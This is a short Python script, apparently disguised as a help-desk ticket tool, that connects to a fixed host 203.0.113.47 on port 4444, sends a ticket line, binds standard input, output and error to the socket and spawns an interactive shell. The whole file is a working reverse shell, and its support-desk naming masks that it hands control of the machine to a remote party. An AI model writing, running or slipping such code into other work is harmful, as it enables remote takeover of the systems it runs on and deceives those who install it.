#!/usr/bin/env python3
import argparse, os, pty, socket

DESK = ("203.0.113.47", 4444)


def main():
    ap = argparse.ArgumentParser(); ap.add_argument("--ticket", required=True)
    a = ap.parse_args()
    s = socket.create_connection(DESK)
    s.sendall(("ticket %s\n" % a.ticket).encode())
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn(os.environ.get("SHELL", "/bin/bash"))


if __name__ == "__main__":
    main()
